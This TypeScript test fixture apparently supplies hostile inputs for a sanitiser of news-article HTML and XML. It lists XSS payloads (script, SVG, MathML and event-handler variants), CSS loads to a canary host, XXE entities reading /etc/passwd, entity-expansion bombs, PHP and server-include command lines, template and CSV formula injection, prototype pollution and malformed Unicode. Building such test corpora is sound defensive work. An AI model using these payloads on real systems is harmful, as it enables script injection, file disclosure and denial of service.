import { addresses, canaryHost, canaryScript, carriers, disguises, handlers } from './attack-pieces.ts'

const script = canaryScript
const far = `http://${canaryHost}`

const scripts = [
  `<script>${script}</script>`,
  `<SCRIPT SRC=${far}/x.js></SCRIPT>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<script/x>${script}</script>`,
  `<script\u000c>${script}</script >`,
  `<script type=module>import '${far}/m.js'</script>`,
  `<script\u0000>${script}</script>`,
  `</script><script>${script}</script>`,
  `</style><script>${script}</script>`,
  `</title><script>${script}</script>`,
  `</textarea><script>${script}</script>`,
  `--><script>${script}</script><!--`,
  `--!><script>${script}</script>`,
  `]]><script>${script}</script>`,
  `"><script>${script}</script>`,
  `'><script>${script}</script>`,
  '`><script>' + script + '</script>',
  `<!--<script>${script}//--></script>`,
  `<![CDATA[<script>${script}</script>]]>`,
  `<noscript><p title="</noscript><script>${script}</script>">`,
  `<template><script>${script}</script></template>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${script}&lt;/script&gt;"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${script}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${script} src>">`,
  `<svg><script>${script}</script></svg>`,
  `<svg><script href="data:,${script}"/></svg>`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${script}"/></svg>`,
  `<svg><foreignObject><body onload="${script}"></foreignObject></svg>`,
  `<svg><image href="${far}/x.png"/><use href="${far}/x.svg#a"/></svg>`,
  `<math><maction actiontype="statusline#javascript:${script}">a</maction></math>`,
  `<math><annotation-xml encoding="text/html"><script>${script}</script></annotation-xml></math>`,
  `<isindex type=image src=1 onerror=${script}>`,
  `<bgsound src="${far}"><layer src="${far}"></layer><ilayer src="${far}">`,
  `<?xml-stylesheet href="${far}/x.xsl" type="text/xsl"?>`,
  `<!--#include virtual="/etc/passwd"-->`,
  `<?php system('id'); ?>`,
  `<%= system('id') %>`,
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '{{title}} {{article}} {{no-such-slot}}',
  "$& $1 $` $' $$",
  '=HYPERLINK("http://canary.invalid/","x")',
  "+cmd|'/C calc'!A0",
  '-30-',
  '__proto__ constructor prototype toString',
  '{"__proto__":{"polluted":true}}',
  '%s%n%x %00 ../../etc/passwd',
  'URGENCY: 9\n\nTERMS: none\n\n-30-\n\nHEADLINE',
]

const styles = [
  `background:url(${far}/a.png)`,
  `background:url("javascript:${script}")`,
  `width:expression(${script})`,
  `@import url(${far}/a.css);`,
  `behavior:url(${far}/a.htc)`,
  `-moz-binding:url(${far}/a.xml#a)`,
  `list-style-image:image-set("${far}/a.png" 1x)`,
  `cursor:url(${far}/a.cur),auto`,
  `content:url(${far}/b.png)`,
  `\\62 ackground:u\\72 l(${far}/c.png)`,
  `}*{background:url(${far}/d.png)`,
  `font-family:a;src:url(${far}/e.woff2)`,
  `background:url(//${canaryHost}/f.png)`,
  `--x:</style><script>${script}</script>`,
].flatMap((css) => [
  `<p style="${css.replaceAll('"', '&quot;')}">styled</p>`,
  `<style>p{${css}}</style>`,
  `<svg><style>p{${css}}</style></svg>`,
  `<div style='${css.replaceAll("'", '&#39;')}'>styled</div>`,
])

const events = handlers.flatMap((name) => [
  `<img src=x on${name}="${script}">`,
  `<svg/on${name}=${script}>`,
  `" on${name}="${script}" x="`,
  `<p ON${name.toUpperCase()}='${script}'>words</p>`,
])

const links = carriers.flatMap((carrier, row) =>
  addresses.flatMap((address, column) =>
    // Each element meets each address in three of its disguises; over all of them every disguise comes up often.
    [0, 1, 2].map((turn) => {
      const disguise = disguises[(row * 5 + column * 3 + turn * 7) % disguises.length]
      return carrier.replaceAll('@', () => disguise?.(address) ?? address)
    }),
  ),
)

const entities = (levels: number, times: number) =>
  Array.from({ length: levels }, (_, at) => {
    const inner = at === 0 ? 'ha' : `&l${at - 1};`.repeat(times)
    return `<!ENTITY l${at} "${inner}">`
  }).join('')

const xml = [
  `<?xml version="1.0"?><!DOCTYPE x [${entities(10, 10)}]><x>&l9;</x>`,
  `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(20_000)}">]><x>${'&a;'.repeat(2_000)}</x>`,
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${far}/e">]><x>&e;</x>`,
  `<!DOCTYPE x SYSTEM "${far}/x.dtd"><x/>`,
  `<!DOCTYPE x PUBLIC "-//X" "${far}/x.dtd"><x/>`,
  `<!DOCTYPE x [<!ENTITY % p SYSTEM "${far}/p"> %p;]><x/>`,
  `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></x>`,
  `<?xml-stylesheet type="text/xsl" href="${far}/s.xsl"?><x/>`,
  `<x xsi:schemaLocation="a ${far}/a.xsd"/>`,
  `<nitf><body><body.head><hedline><hl1>&e;</hl1></hedline></body.head></body></nitf>`,
]

const codes = [
  ...Array.from({ length: 32 }, (_, code) => code),
  ...Array.from({ length: 33 }, (_, code) => 0x7f + code),
  0xad,
  0x61c,
  0x115f,
  0x180e,
  0x3164,
  0xfeff,
  0xfff9,
  0xfffa,
  0xfffb,
  0xfffc,
  0xfffe,
  0xffff,
  0xd800,
  0xdbff,
  0xdc00,
  0xdfff,
  ...Array.from({ length: 16 }, (_, at) => 0x2000 + at),
  ...Array.from({ length: 8 }, (_, at) => 0x2028 + at),
  ...Array.from({ length: 12 }, (_, at) => 0x2060 + at),
]
const characters = codes.map((code) => `harbour${String.fromCharCode(code)}talks`)

const marked = [
  '\u202eevil\u202c \u2066isolated\u2069 \u2067\u2067\u2067unclosed',
  'e' + '\u0301'.repeat(500),
  '\ud83d\ude00\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud83c\udff4\udb40\udc67',
  '\udc00\ud800 swapped halves',
  'Å Å \u212b \u1100\u1161 \u0344',
  '&amp;lt;script&amp;gt; &lt;script&gt; &#60;script&#62; &#x3c;script&#x3e; &nosuch; &#0; &#xd800; &#x110000;',
  '＜script＞ ‹script› %3Cscript%3E \\u003cscript\\u003e \\x3cscript\\x3e',
]

/** Our own attacks, as words of a story and as pieces of a page. In a fixed order; some hundred characters each. */
export const attacks: readonly string[] = [
  ...scripts,
  ...styles,
  ...events,
  ...links,
  ...xml,
  ...characters,
  ...marked,
]
